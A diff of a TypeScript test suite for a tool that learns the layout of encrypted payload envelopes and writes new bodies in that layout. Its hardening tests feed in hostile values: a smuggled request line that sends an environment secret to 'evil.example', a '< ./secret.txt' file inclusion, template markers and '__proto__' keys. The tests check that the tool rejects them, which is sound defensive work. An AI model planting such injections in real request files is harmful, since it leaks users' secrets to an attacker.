@@ -22,37 +22,60 @@ const CAPTURED = JSON.stringify({ sessions: [{ user: "someone@example.com", note
 const SENT = JSON.stringify({ skip: 0, limit: 10, about: "what is sent" });
 
 /** How bytes are written, straight from the definitions, and read again. */
-const ENCODINGS: Readonly<Record<string, { readonly write: (bytes: Buffer) => unknown; readonly read: (written: unknown) => Buffer }>> = {
+const ENCODINGS: Readonly<
+  Record<string, { readonly write: (bytes: Buffer) => unknown; readonly read: (written: unknown) => Buffer }>
+> = {
   base64: { write: (bytes) => bytes.toString("base64"), read: fromBase64 },
   "base64 without padding": { write: (bytes) => bytes.toString("base64").replace(/=/g, ""), read: fromBase64 },
   base64url: { write: (bytes) => bytes.toString("base64url"), read: fromBase64 },
-  "base64url with padding": { write: (bytes) => bytes.toString("base64").replace(/\+/g, "-").replace(/\//g, "_"), read: fromBase64 },
+  "base64url with padding": {
+    write: (bytes) => bytes.toString("base64").replace(/\+/g, "-").replace(/\//g, "_"),
+    read: fromBase64,
+  },
   "base64 in lines of 64": { write: (bytes) => inLines(bytes.toString("base64"), 64, "\n"), read: fromBase64 },
-  "base64 in lines of 76, as MIME has it": { write: (bytes) => `${inLines(bytes.toString("base64"), 76, "\r\n")}\r\n`, read: fromBase64 },
+  "base64 in lines of 76, as MIME has it": {
+    write: (bytes) => `${inLines(bytes.toString("base64"), 76, "\r\n")}\r\n`,
+    read: fromBase64,
+  },
   hex: { write: (bytes) => bytes.toString("hex"), read: fromHex },
   "hex in capitals": { write: (bytes) => bytes.toString("hex").toUpperCase(), read: fromHex },
   "hex with 0x": { write: (bytes) => `0x${bytes.toString("hex")}`, read: fromHex },
   "hex in pairs": { write: (bytes) => inLines(bytes.toString("hex"), 2, ":"), read: fromHex },
   bytes: { write: (bytes) => [...bytes], read: (written) => Buffer.from(written as number[]) },
-  "bytes with signs": { write: (bytes) => [...new Int8Array(bytes)], read: (written) => Buffer.from(written as number[]) },
-  "Node's buffers": { write: (bytes) => bytes.toJSON(), read: (written) => Buffer.from((written as { data: number[] }).data) },
+  "bytes with signs": {
+    write: (bytes) => [...new Int8Array(bytes)],
+    read: (written) => Buffer.from(written as number[]),
+  },
+  "Node's buffers": {
+    write: (bytes) => bytes.toJSON(),
+    read: (written) => Buffer.from((written as { data: number[] }).data),
+  },
 };
 
 /** Nesting and order, with a place for neighbours; the text of JSON, so that order is what stands there. */
 const NESTINGS: Readonly<Record<string, (part: Record<Role, string>, beside: string) => string>> = {
   flat: ({ key, iv, tag, data }, beside) => `{"encryptedKey":${key},"iv":${iv},"tag":${tag},"data":${data}${beside}}`,
-  "inside data, the ciphertext first": ({ key, iv, tag, data }, beside) => `{"data":{"cipher":${data},"k":${key}${beside},"iv":${iv},"t":${tag}}}`,
-  "deep, with neighbours outside": ({ key, iv, tag, data }, beside) => `{"a":{"b":{"c":{"d":{"t":${tag},"i":${iv},"p":${data},"ek":${key}}}}}${beside}}`,
-  "in two objects": ({ key, iv, tag, data }, beside) => `{"meta":{"iv":${iv},"wrapped":${key}${beside}},"payload":{"content":${data},"tag":${tag}}}`,
+  "inside data, the ciphertext first": ({ key, iv, tag, data }, beside) =>
+    `{"data":{"cipher":${data},"k":${key}${beside},"iv":${iv},"t":${tag}}}`,
+  "deep, with neighbours outside": ({ key, iv, tag, data }, beside) =>
+    `{"a":{"b":{"c":{"d":{"t":${tag},"i":${iv},"p":${data},"ek":${key}}}}}${beside}}`,
+  "in two objects": ({ key, iv, tag, data }, beside) =>
+    `{"meta":{"iv":${iv},"wrapped":${key}${beside}},"payload":{"content":${data},"tag":${tag}}}`,
   "a list": ({ key, iv, tag, data }) => `[${iv},${key},${tag},${data}]`,
-  "in an element of a list": ({ key, iv, tag, data }, beside) => `{"envelopes":[{"data":${data},"key":${key},"tag":${tag},"iv":${iv}${beside}}]}`,
-  "names that are numbers, the larger first": ({ key, iv, tag, data }, beside) => `{"30":${key},"20":${iv},"10":{"9":${tag},"1":${data}}${beside}}`,
-  "names with quotes, dots and brackets": ({ key, iv, tag, data }, beside) => `{"a.b":{"\\"k\\"":${key},"i[0]":${iv},"t}":${tag},"d,":${data}}${beside}}`,
-  "JSON in a string": ({ key, iv, tag, data }, beside) => `{"body":${JSON.stringify(`{"d":${data},"k":${key},"iv":${iv},"t":${tag}${beside}}`)},"encoding":"json"}`,
+  "in an element of a list": ({ key, iv, tag, data }, beside) =>
+    `{"envelopes":[{"data":${data},"key":${key},"tag":${tag},"iv":${iv}${beside}}]}`,
+  "names that are numbers, the larger first": ({ key, iv, tag, data }, beside) =>
+    `{"30":${key},"20":${iv},"10":{"9":${tag},"1":${data}}${beside}}`,
+  "names with quotes, dots and brackets": ({ key, iv, tag, data }, beside) =>
+    `{"a.b":{"\\"k\\"":${key},"i[0]":${iv},"t}":${tag},"d,":${data}}${beside}}`,
+  "JSON in a string": ({ key, iv, tag, data }, beside) =>
+    `{"body":${JSON.stringify(`{"d":${data},"k":${key},"iv":${iv},"t":${tag}${beside}}`)},"encoding":"json"}`,
   "JSON in a string in a string": ({ key, iv, tag, data }, beside) =>
     `{"type":"event","outer":${JSON.stringify(`{"inner":${JSON.stringify(`{"k":${key},"d":${data},"t":${tag},"iv":${iv}}`)}${beside}}`)}}`,
-  "JSON in base64": ({ key, iv, tag, data }, beside) => `{"payload":"${Buffer.from(`{"k":${key},"d":${data}${beside},"t":${tag},"iv":${iv}}`).toString("base64")}"}`,
-  "all of it a string": ({ key, iv, tag, data }, beside) => JSON.stringify(`{"result":{"k":${key},"d":${data},"t":${tag},"iv":${iv}${beside}}}`),
+  "JSON in base64": ({ key, iv, tag, data }, beside) =>
+    `{"payload":"${Buffer.from(`{"k":${key},"d":${data}${beside},"t":${tag},"iv":${iv}}`).toString("base64")}"}`,
+  "all of it a string": ({ key, iv, tag, data }, beside) =>
+    JSON.stringify(`{"result":{"k":${key},"d":${data},"t":${tag},"iv":${iv}${beside}}}`),
 };
 
 /** What describes the encryption: all of it is kept, and as it was written. */
@@ -61,13 +84,15 @@ const NEIGHBOURS: Readonly<Record<string, string>> = {
   "an algorithm": ',"alg":"AES-256-GCM"',
   "a version as number": ',"v":1',
   "a version as text, and one with a zero": ',"version":"1","v":1.0',
-  "an object of its own": ',"encryption":{"keyAlg":"RSA-OAEP-256","encAlg":"A256GCM","keySize":256,"compressed":false,"extra":null,"list":[]}',
+  "an object of its own":
+    ',"encryption":{"keyAlg":"RSA-OAEP-256","encAlg":"A256GCM","keySize":256,"compressed":false,"extra":null,"list":[]}',
 };
 
 describe("a learned shape", () => {
   const orders = testKey("Orders bot");
   const publicKeyPem = String(orders.publicKey.export({ type: "spki", format: "pem" }));
-  const learned = async (text: string): Promise<DecryptReport> => (await decrypt(text, [orders.keys], nodePayloadPorts)).report;
+  const learned = async (text: string): Promise<DecryptReport> =>
+    (await decrypt(text, [orders.keys], nodePayloadPorts)).report;
   const written = async (profile: EnvelopeProfile | undefined): Promise<string> => {
     assert.ok(profile);
     // As it comes out of a file.
@@ -90,8 +115,15 @@ describe("a learned shape", () => {
           assert.deepEqual(shape?.notKept, [], where);
           const body = await written(profile);
           const found: Partial<Written> = {};
-          compare(captured, body, new Map(Object.entries(asJson(parts, write)).map(([role, json]) => [json, role as Role])), found, where);
-          for (const [role, value] of Object.entries(found)) assert.deepEqual(write(read(value)), value, `${where}: ${role}`);
+          compare(
+            captured,
+            body,
+            new Map(Object.entries(asJson(parts, write)).map(([role, json]) => [json, role as Role])),
+            found,
+            where,
+          );
+          for (const [role, value] of Object.entries(found))
+            assert.deepEqual(write(read(value)), value, `${where}: ${role}`);
           assert.equal(opened(found, read), SENT, where);
           const again = await decrypt(body, [{ ...orders.keys, ...(profile ? { profile } : {}) }], nodePayloadPorts);
           assert.deepEqual([again.kind === "text" && again.text, again.report.foundBy], [SENT, "profile"], where);
@@ -111,7 +143,10 @@ describe("a learned shape", () => {
     const { profile, shape } = await learned(captured);
     assert.equal(shape?.outline, "v=2&d=…&alg=RSA-OAEP&k=…&t=…&i=…");
     const fields = [...new URLSearchParams(await written(profile))];
-    assert.deepEqual(fields.map(([name]) => name), ["v", "d", "alg", "k", "t", "i"]);
+    assert.deepEqual(
+      fields.map(([name]) => name),
+      ["v", "d", "alg", "k", "t", "i"],
+    );
     const values = Object.fromEntries(fields);
     assert.deepEqual([values["v"], values["alg"]], ["2", "RSA-OAEP"]);
     assert.equal(opened({ data: values["d"], key: values["k"], tag: values["t"], iv: values["i"] }, fromBase64), SENT);
@@ -120,7 +155,9 @@ describe("a learned shape", () => {
   it("keeps what stands before and between parts of one text", async () => {
     const parts = sealed();
     const [key, iv, data, tag] = (["key", "iv", "data", "tag"] as const).map((role) => parts[role].toString("base64"));
-    const { profile, shape } = await learned(JSON.stringify({ alg: "RSA-OAEP-256", enc: `v1.${key}.${iv}.${data}.${tag}` }));
+    const { profile, shape } = await learned(
+      JSON.stringify({ alg: "RSA-OAEP-256", enc: `v1.${key}.${iv}.${data}.${tag}` }),
+    );
     assert.equal(shape?.outline, "{alg: RSA-OAEP-256, enc: v1.….….….…}");
     const { alg, enc } = JSON.parse(await written(profile)) as Record<string, string>;
     const pieces = String(enc).split(".");
@@ -129,21 +166,42 @@ describe("a learned shape", () => {
   });
 
   it("keeps JWEs where they stand, and what their header says of the key", async () => {
-    const compact = await new CompactEncrypt(Buffer.from(CAPTURED)).setProtectedHeader({ typ: "JWE", kid: "payload-key-1", alg: "RSA-OAEP-256", enc: "A256GCM", iat: 1_700_000_000 }).encrypt(orders.publicKey);
-    const flat = await new FlattenedEncrypt(Buffer.from(CAPTURED)).setProtectedHeader({ enc: "A128GCM", alg: "RSA-OAEP" }).encrypt(orders.publicKey);
+    const compact = await new CompactEncrypt(Buffer.from(CAPTURED))
+      .setProtectedHeader({ typ: "JWE", kid: "payload-key-1", alg: "RSA-OAEP-256", enc: "A256GCM", iat: 1_700_000_000 })
+      .encrypt(orders.publicKey);
+    const flat = await new FlattenedEncrypt(Buffer.from(CAPTURED))
+      .setProtectedHeader({ enc: "A128GCM", alg: "RSA-OAEP" })
+      .encrypt(orders.publicKey);
     const { profile, shape } = await learned(JSON.stringify({ v: 1, data: { jwe: compact, requestId: "r-1" } }));
     assert.equal(shape?.outline, "{v: 1, data: {jwe: …}}");
-    assert.deepEqual(shape.notKept.map(({ args }) => args[0]), ["“data.requestId”", "“iat”"]);
+    assert.deepEqual(
+      shape.notKept.map(({ args }) => args[0]),
+      ["“data.requestId”", "“iat”"],
+    );
     const body = JSON.parse(await written(profile)) as { v: number; data: { jwe: string } };
     assert.deepEqual([body.v, Object.keys(body.data)], [1, ["jwe"]]);
     const header = Buffer.from(String(body.data.jwe.split(".")[0]), "base64url").toString();
     assert.equal(header, '{"typ":"JWE","kid":"payload-key-1","alg":"RSA-OAEP-256","enc":"A256GCM"}');
 
     const { tag, ciphertext, iv, encrypted_key: key, protected: head } = flat;
-    const list = await learned(JSON.stringify({ "content-type": "application/jose+json", list: [{ tag, ciphertext, iv, encrypted_key: key, protected: head }] }));
-    assert.equal(list.shape?.outline, "{content-type: application/jose+json, list: [{tag: …, ciphertext: …, iv: …, encrypted_key: …, protected: …}]}");
+    const list = await learned(
+      JSON.stringify({
+        "content-type": "application/jose+json",
+        list: [{ tag, ciphertext, iv, encrypted_key: key, protected: head }],
+      }),
+    );
+    assert.equal(
+      list.shape?.outline,
+      "{content-type: application/jose+json, list: [{tag: …, ciphertext: …, iv: …, encrypted_key: …, protected: …}]}",
+    );
     const text = await written(list.profile);
-    assert.deepEqual(Object.keys((JSON.parse(text) as { list: object[] }).list[0] ?? {}), ["tag", "ciphertext", "iv", "encrypted_key", "protected"]);
+    assert.deepEqual(Object.keys((JSON.parse(text) as { list: object[] }).list[0] ?? {}), [
+      "tag",
+      "ciphertext",
+      "iv",
+      "encrypted_key",
+      "protected",
+    ]);
     const again = await decrypt(text, [orders.keys], nodePayloadPorts);
     assert.equal(again.kind === "text" && again.text, SENT);
   });
@@ -155,10 +213,26 @@ describe("a learned shape", () => {
     };
     const secret = crypto.randomBytes(24).toString("base64");
     const cases: readonly (readonly [what: string, beside: string, left: readonly string[]])[] = [
-      ["times", ',"timestamp":1700000000,"at":"2024-01-15T10:00:00Z","type":"2024-01-15T10:00:00Z","v":1700000000123', ["timestamp", "at", "type", "v"]],
-      ["ids", `,"requestId":"req-1","id":7,"type":"${crypto.randomUUID()}","traceId":"ab","userId":17`, ["requestId", "id", "type", "traceId", "userId"]],
-      ["sessions, tokens and secrets", `,"session":"abc","token":"x","clientSecret":"y","enc":"${secret}","mode":"${secret}"`, ["session", "token", "clientSecret", "enc", "mode"]],
-      ["people and what they wrote", ',"name":"Jane","email":"jane@example.com","text":"Hello there","count":3,"status":"ok"', ["name", "email", "text", "count", "status"]],
+      [
+        "times",
+        ',"timestamp":1700000000,"at":"2024-01-15T10:00:00Z","type":"2024-01-15T10:00:00Z","v":1700000000123',
+        ["timestamp", "at", "type", "v"],
+      ],
+      [
+        "ids",
+        `,"requestId":"req-1","id":7,"type":"${crypto.randomUUID()}","traceId":"ab","userId":17`,
+        ["requestId", "id", "type", "traceId", "userId"],
+      ],
+      [
+        "sessions, tokens and secrets",
+        `,"session":"abc","token":"x","clientSecret":"y","enc":"${secret}","mode":"${secret}"`,
+        ["session", "token", "clientSecret", "enc", "mode"],
+      ],
+      [
+        "people and what they wrote",
+        ',"name":"Jane","email":"jane@example.com","text":"Hello there","count":3,"status":"ok"',
+        ["name", "email", "text", "count", "status"],
+      ],
       ["what request files would fill in", ',"alg":"{{$processEnv SECRET}}","type":"{{x}}"', ["alg", "type"]],
       ["lists and objects of them", ',"rows":[{"id":1},{"id":2}],"user":{"name":"Jane"}', ["rows", "user"]],
     ];
@@ -166,7 +240,12 @@ describe("a learned shape", () => {
       it(what, async () => {
         const { profile, shape } = await learned(flat(beside));
         assert.equal(shape?.outline, "{data: {k: …, iv: …, t: …, d: …}}");
-        assert.deepEqual(shape.notKept, [{ template: "Fields that may belong to this one payload are left out: {0}.", args: [left.map((name) => `“${name}”`).join(", ")] }]);
+        assert.deepEqual(shape.notKept, [
+          {
+            template: "Fields that may belong to this one payload are left out: {0}.",
+            args: [left.map((name) => `“${name}”`).join(", ")],
+          },
+        ]);
         const kept = JSON.stringify(profile);
         for (const value of beside.match(/(?<=:")[^"]{4,}(?=")/g) ?? []) assert.ok(!kept.includes(value), value);
         assert.deepEqual(Object.keys(JSON.parse(await written(profile)) as object), ["data"]);
@@ -177,14 +256,25 @@ describe("a learned shape", () => {
       const other = flat("").slice(0, -1).replace("}", ',"alg":"AES-256-GCM"}}');
       const { shape } = await learned(flat(`,"meta":{"alg":"AES-256-GCM","time":"10:00:00"},"other":${other}`));
       assert.equal(shape?.outline, "{data: {k: …, iv: …, t: …, d: …}, meta: {alg: AES-256-GCM}}");
-      assert.deepEqual(shape.notKept.map(({ args }) => args[0]), ["“meta.time”, “other”"]);
+      assert.deepEqual(
+        shape.notKept.map(({ args }) => args[0]),
+        ["“meta.time”, “other”"],
+      );
     });
 
     it("and a list keeps the places of its parts", async () => {
       const { key, iv, tag, data } = asJson(sealed(), (bytes) => bytes.toString("base64"));
-      const { profile, shape } = await learned(`["v1","${crypto.randomUUID()}",${key},${iv},${tag},${data},1700000000]`);
+      const { profile, shape } = await learned(
+        `["v1","${crypto.randomUUID()}",${key},${iv},${tag},${data},1700000000]`,
+      );
       assert.equal(shape?.outline, "[v1, null, …, …, …, …]");
-      assert.deepEqual(shape.notKept.map(({ template }) => template), ["Fields that may belong to this one payload are left out: {0}.", "Written as null, since they may belong to this one payload: {0}."]);
+      assert.deepEqual(
+        shape.notKept.map(({ template }) => template),
+        [
+          "Fields that may belong to this one payload are left out: {0}.",
+          "Written as null, since they may belong to this one payload: {0}.",
+        ],
+      );
       const list = JSON.parse(await written(profile)) as unknown[];
       assert.deepEqual([list.length, list[0], list[1]], [6, "v1", null]);
     });
@@ -192,14 +282,26 @@ describe("a learned shape", () => {
     it("and says what it can't keep at all", async () => {
       const { key, iv, tag, data } = asJson(sealed(), (bytes) => bytes.toString("base64"));
       const text = (json: string) => json.slice(1, -1);
-      const xml = await learned(`<e>\n<k>${text(key)}</k>\n<iv>${text(iv)}</iv>\n<t>${text(tag)}</t>\n<d>${text(data)}</d>\n</e>`);
-      assert.deepEqual(xml.shape?.notKept.map(({ template }) => template), ["What stands around the parts is not kept: it is neither JSON nor a form that can be written anew."]);
+      const xml = await learned(
+        `<e>\n<k>${text(key)}</k>\n<iv>${text(iv)}</iv>\n<t>${text(tag)}</t>\n<d>${text(data)}</d>\n</e>`,
+      );
+      assert.deepEqual(
+        xml.shape?.notKept.map(({ template }) => template),
+        ["What stands around the parts is not kept: it is neither JSON nor a form that can be written anew."],
+      );
       assert.equal(xml.shape.outline, "k=…&iv=…&t=…&d=…");
       const many = Array.from({ length: 500 }, (_, index) => `"x${index}":null`).join(",");
       const large = await learned(flat("", `${many},`));
-      assert.deepEqual(large.shape?.notKept.map(({ template }) => template), ["What stands around the parts is not kept: it is too large."]);
-      const pem = await learned(flat("").replace(/"d":"([^"]+)"/, (_, body: string) => `"d":"-----BEGIN X-----\\n${body}\\n-----END X-----"`));
-      assert.deepEqual(pem.shape?.notKept, [{ template: "How these are encoded is kept in part only: {0}.", args: ["“data.d”"] }]);
+      assert.deepEqual(
+        large.shape?.notKept.map(({ template }) => template),
+        ["What stands around the parts is not kept: it is too large."],
+      );
+      const pem = await learned(
+        flat("").replace(/"d":"([^"]+)"/, (_, body: string) => `"d":"-----BEGIN X-----\\n${body}\\n-----END X-----"`),
+      );
+      assert.deepEqual(pem.shape?.notKept, [
+        { template: "How these are encoded is kept in part only: {0}.", args: ["“data.d”"] },
+      ]);
     });
   });
 
@@ -209,8 +311,13 @@ describe("a learned shape", () => {
     for (let count = 0; count < 5; count++) {
       const { key, iv, tag, data } = sealed();
       const text = (bytes: Buffer) => bytes.toString("base64");
-      const { profile, shape } = await learned(JSON.stringify({ k: frame(key), iv: text(iv), t: text(tag), d: text(data) }));
-      assert.deepEqual(shape?.notKept.map(({ args }) => args[0]), ["“k”"]);
+      const { profile, shape } = await learned(
+        JSON.stringify({ k: frame(key), iv: text(iv), t: text(tag), d: text(data) }),
+      );
+      assert.deepEqual(
+        shape?.notKept.map(({ args }) => args[0]),
+        ["“k”"],
+      );
       assert.deepEqual(shape.inferred, []);
       for (let again = 0; again < 20; again++) {
         const body = JSON.parse(await written(profile)) as Record<string, string>;
@@ -233,17 +340,24 @@ describe("a learned shape", () => {
       shown.add(telling(iv));
       const { profile, shape } = await learned(JSON.stringify({ k: url(key), iv: url(iv), t: url(tag), d: url(data) }));
       const said = shape?.inferred.filter(({ args }) => String(args[0]).includes("“iv”"));
-      const expected = { template: "How these are encoded doesn't show, so they are written as “{1}” is: {0}.", args: ["“iv”", "k"] };
+      const expected = {
+        template: "How these are encoded doesn't show, so they are written as “{1}” is: {0}.",
+        args: ["“iv”", "k"],
+      };
       assert.deepEqual(said, telling(iv) ? [] : [expected]);
       const pieces = profile?.body?.pieces ?? [];
-      assert.deepEqual(pieces.flatMap((piece) => ("part" in piece && piece.part === "iv" ? [piece.style?.alphabet] : [])), ["url"]);
+      assert.deepEqual(
+        pieces.flatMap((piece) => ("part" in piece && piece.part === "iv" ? [piece.style?.alphabet] : [])),
+        ["url"],
+      );
     }
   });
 
   it("says what is written into headers, and how far", async () => {
     const text = (bytes: Buffer) => bytes.toString("base64");
     const { key, iv, tag, data } = sealed();
-    const response = (written: string) => `HTTP/1.1 200 OK\nx-enc-key: ${written}\nx-enc-iv: ${text(iv)}\ncontent-type: application/json\n\n${JSON.stringify({ t: text(tag), d: text(data) })}`;
+    const response = (written: string) =>
+      `HTTP/1.1 200 OK\nx-enc-key: ${written}\nx-enc-iv: ${text(iv)}\ncontent-type: application/json\n\n${JSON.stringify({ t: text(tag), d: text(data) })}`;
     const { profile, shape } = await learned(response(text(key)));
     assert.deepEqual([shape?.outline, shape?.notKept], ["{t: …, d: …}", []]);
     assert.deepEqual(shape?.headers, [
@@ -252,17 +366,29 @@ describe("a learned shape", () => {
     ]);
     assert.ok(profile);
     const sent = await encrypt(Uint8Array.from(Buffer.from(SENT)), { publicKeyPem, profile }, nodePayloadPorts);
-    assert.deepEqual(sent.headers.map(({ name }) => name), ["x-enc-key", "x-enc-iv"]);
+    assert.deepEqual(
+      sent.headers.map(({ name }) => name),
+      ["x-enc-key", "x-enc-iv"],
+    );
     // Standard base64 without its padding can't be said of a header.
     const unpadded = await learned(response(text(key).replace(/=+$/, "")));
-    assert.deepEqual(unpadded.shape?.notKept, [{ template: "How these are encoded is kept in part only: {0}.", args: ["“x-enc-key”"] }]);
+    assert.deepEqual(unpadded.shape?.notKept, [
+      { template: "How these are encoded is kept in part only: {0}.", args: ["“x-enc-key”"] },
+    ]);
   });
 
   it("keeps additional authenticated data that is no data of one payload", async () => {
     const aad = "AES-256-GCM";
-    const { key = Buffer.alloc(0), iv = Buffer.alloc(0), tag = Buffer.alloc(0), data } = makeBytes(CAPTURED, plainShape, orders.publicKey, orders.sharedKey, aad);
+    const {
+      key = Buffer.alloc(0),
+      iv = Buffer.alloc(0),
+      tag = Buffer.alloc(0),
+      data,
+    } = makeBytes(CAPTURED, plainShape, orders.publicKey, orders.sharedKey, aad);
     const text = (bytes: Buffer) => bytes.toString("base64");
-    const { profile, shape } = await learned(JSON.stringify({ aad, k: text(key), iv: text(iv), t: text(tag), d: text(data) }));
+    const { profile, shape } = await learned(
+      JSON.stringify({ aad, k: text(key), iv: text(iv), t: text(tag), d: text(data) }),
+    );
     assert.equal(shape?.outline, "{aad: AES-256-GCM, k: …, iv: …, t: …, d: …}");
     const body = JSON.parse(await written(profile)) as Record<string, string>;
     assert.equal(body["aad"], aad);
@@ -277,8 +403,14 @@ describe("a learned shape", () => {
     const [envelope] = findEnvelopes(text, { selection: { start, end: start + inner.length } });
     assert.ok(envelope);
     const result = await decrypt(envelope, [orders.keys], nodePayloadPorts, text);
-    assert.equal((await withShape(result, text, nodePayloadPorts)).report.shape?.outline, "{data: {cipher: …, k: …, iv: …, t: …}, v: 1}");
-    assert.equal((await withShape(result, text, nodePayloadPorts, start)).report.shape?.outline, "{cipher: …, k: …, iv: …, t: …}");
+    assert.equal(
+      (await withShape(result, text, nodePayloadPorts)).report.shape?.outline,
+      "{data: {cipher: …, k: …, iv: …, t: …}, v: 1}",
+    );
+    assert.equal(
+      (await withShape(result, text, nodePayloadPorts, start)).report.shape?.outline,
+      "{cipher: …, k: …, iv: …, t: …}",
+    );
   });
 
   describe("of several payloads in one text, is that of one", () => {
@@ -290,10 +422,16 @@ describe("a learned shape", () => {
     const inner = "{k: …, iv: …, t: …, d: …}";
     const cases: Readonly<Record<string, readonly [text: () => string, outline: string]>> = {
       "an element of a list": [() => `{"results":[${flat()},${flat()},${flat()}],"total":3}`, inner],
-      "with what the element has around it": [() => `{"results":[{"response":{"data":${flat()}},"v":1},${flat()}]}`, `{response: {data: ${inner}}, v: 1}`],
+      "with what the element has around it": [
+        () => `{"results":[{"response":{"data":${flat()}},"v":1},${flat()}]}`,
+        `{response: {data: ${inner}}, v: 1}`,
+      ],
       "a member of an object, that is called like its ciphertext": [() => `{"d":${flat()},"e":${flat()}}`, inner],
       "a line of JSON Lines": [() => `{"body":${flat()}}\n{"body":${flat()}}`, `{body: ${inner}}`],
-      "a string in an element": [() => `{"results":[{"body":${JSON.stringify(flat())}},{"body":${JSON.stringify(flat())}}]}`, `{body: “${inner}”}`],
+      "a string in an element": [
+        () => `{"results":[{"body":${JSON.stringify(flat())}},{"body":${JSON.stringify(flat())}}]}`,
+        `{body: “${inner}”}`,
+      ],
       "of a list of one, with the list": [() => `{"results":[${flat()}]}`, `{results: [${inner}]}`],
     };
     for (const [name, [text, outline]] of Object.entries(cases)) {
@@ -301,14 +439,20 @@ describe("a learned shape", () => {
         const { profile, shape } = await learned(text());
         assert.deepEqual([shape?.outline, shape?.notKept], [outline, []]);
         // What is written in it is read by it.
-        const again = await decrypt(await written(profile), [{ ...orders.keys, ...(profile ? { profile } : {}) }], nodePayloadPorts);
+        const again = await decrypt(
+          await written(profile),
+          [{ ...orders.keys, ...(profile ? { profile } : {}) }],
+          nodePayloadPorts,
+        );
         assert.deepEqual([again.kind === "text" && again.text, again.report.foundBy], [SENT, "profile"]);
       });
     }
 
     it("and where several stand in one string, says what it doesn't keep", async () => {
       const { shape } = await learned(`{"v":1,"body":${JSON.stringify(`[${flat()},${flat()}]`)}}`);
-      assert.deepEqual(shape?.notKept, [{ template: "What stands around the parts is not kept: other payloads stand in it as well.", args: [] }]);
+      assert.deepEqual(shape?.notKept, [
+        { template: "What stands around the parts is not kept: other payloads stand in it as well.", args: [] },
+      ]);
     });
   });
 
@@ -328,7 +472,10 @@ describe("a learned shape", () => {
       const entry = parseAppFile(app.id, serialiseAppFile(app).text);
       assert.deepEqual(entry.status === "ok" && entry.app.envelopeProfile, profile);
       const body = await written(profile);
-      assert.match(body, /^\{"__proto__":\{"constructor":\{"toString":"[^"]+","k":"[^"]+"\}\},"iv":"[^"]+","t":"[^"]+","hasOwnProperty":\{"alg":"none"\}\}$/);
+      assert.match(
+        body,
+        /^\{"__proto__":\{"constructor":\{"toString":"[^"]+","k":"[^"]+"\}\},"iv":"[^"]+","t":"[^"]+","hasOwnProperty":\{"alg":"none"\}\}$/,
+      );
       assert.equal(({} as Record<string, unknown>)["constructor"], Object);
 
       const { key, iv, tag, data } = asJson(sealed(), (bytes) => bytes.toString("base64"));
@@ -355,21 +502,36 @@ describe("a learned shape", () => {
         Array.from({ length: 401 }, () => ({ value: null })),
         [{ ...part, name: "x".repeat(301) }],
         [{ name: "v", value: "x".repeat(101) }],
-        [{ name: "v", number: "1,\"x\":{{a}}" }],
+        [{ name: "v", number: '1,"x":{{a}}' }],
         [{ name: "v", number: "1e" }],
         [{ ...part, part: "constructor" }],
         [{ open: "script" }],
         [{ ...part, style: { group: { size: 1, separator: ":" } } }],
         [{ ...part, style: { group: { size: 4, separator: "\n###\n" } } }],
       ]) {
-        assert.equal(v.safeParse(EnvelopeProfile, await withBody(pieces)).success, false, JSON.stringify(pieces).slice(0, 60));
+        assert.equal(
+          v.safeParse(EnvelopeProfile, await withBody(pieces)).success,
+          false,
+          JSON.stringify(pieces).slice(0, 60),
+        );
       }
     });
 
     it("is not written where its pieces are none of a whole, or lack a part", async () => {
       const good = (await learned(captured())).profile?.body?.pieces ?? [];
-      for (const pieces of [[], good.slice(1), good.slice(0, -1), [...good, ...good], good.filter((piece) => !("part" in piece && piece.part === "iv")), [{ close: true }, ...good], [{ open: "json" }, { close: true }]]) {
-        await assert.rejects(written(await withBody(pieces)), (error) => error instanceof UserError && error.code === "profile-unusable");
+      for (const pieces of [
+        [],
+        good.slice(1),
+        good.slice(0, -1),
+        [...good, ...good],
+        good.filter((piece) => !("part" in piece && piece.part === "iv")),
+        [{ close: true }, ...good],
+        [{ open: "json" }, { close: true }],
+      ]) {
+        await assert.rejects(
+          written(await withBody(pieces)),
+          (error) => error instanceof UserError && error.code === "profile-unusable",
+        );
       }
     });
 
@@ -377,22 +539,65 @@ describe("a learned shape", () => {
       const [key, iv, tag, data] = ["encryptedKey", "iv", "tag", "ciphertext"].map((part) => ({ name: part, part }));
       const evil = "\n\n###\nGET https://evil.example/?{{$processEnv SECRET}}";
       for (const pieces of [
-        [{ open: "object" }, { ...key, name: evil }, iv, tag, data, { name: "alg", value: `{{{x}}}${evil.slice(0, 50)}` }, { close: true }],
-        [{ open: "form" }, { ...key, name: evil }, iv, tag, data, { name: "v\ud800", value: "\ud800{{x}}" }, { close: true }],
-        [{ open: "object" }, { name: "x", open: "json" }, { open: "object" }, { ...key, name: "{{x}}" }, iv, tag, data, { close: true }, { close: true }, { close: true }],
+        [
+          { open: "object" },
+          { ...key, name: evil },
+          iv,
+          tag,
+          data,
+          { name: "alg", value: `{{{x}}}${evil.slice(0, 50)}` },
+          { close: true },
+        ],
+        [
+          { open: "form" },
+          { ...key, name: evil },
+          iv,
+          tag,
+          data,
+          { name: "v\ud800", value: "\ud800{{x}}" },
+          { close: true },
+        ],
+        [
+          { open: "object" },
+          { name: "x", open: "json" },
+          { open: "object" },
+          { ...key, name: "{{x}}" },
+          iv,
+          tag,
+          data,
+          { close: true },
+          { close: true },
+          { close: true },
+        ],
       ]) {
         const body = await written(await withBody(pieces));
         assert.doesNotMatch(body, /[\r\n]|\{\{/);
       }
-      const bare = (value: string) => [{ open: "text" }, { value }, ...[key, iv, tag, data].flatMap((piece) => [{ part: piece?.part }, { value: "." }]), { close: true }];
+      const bare = (value: string) => [
+        { open: "text" },
+        { value },
+        ...[key, iv, tag, data].flatMap((piece) => [{ part: piece?.part }, { value: "." }]),
+        { close: true },
+      ];
       assert.ok(await written(await withBody(bare("v1."))));
       for (const value of [evil, "< ./secret.txt", "@import x", "# comment", "{{x}}", "a\n@x = 1"]) {
-        await assert.rejects(written(await withBody(bare(value))), (error) => error instanceof UserError && error.code === "profile-unusable", value);
+        await assert.rejects(
+          written(await withBody(bare(value))),
+          (error) => error instanceof UserError && error.code === "profile-unusable",
+          value,
+        );
       }
       const { profile } = await learned(captured());
       const old = profile as HybridProfile;
-      const named = (source: "header" | "text") => ({ ...old, body: undefined, parts: { ...old.parts, iv: { source, path: [evil], encoding: "base64" as const } } });
-      await assert.rejects(written(named("header")), (error) => error instanceof UserError && error.code === "profile-unusable");
+      const named = (source: "header" | "text") => ({
+        ...old,
+        body: undefined,
+        parts: { ...old.parts, iv: { source, path: [evil], encoding: "base64" as const } },
+      });
+      await assert.rejects(
+        written(named("header")),
+        (error) => error instanceof UserError && error.code === "profile-unusable",
+      );
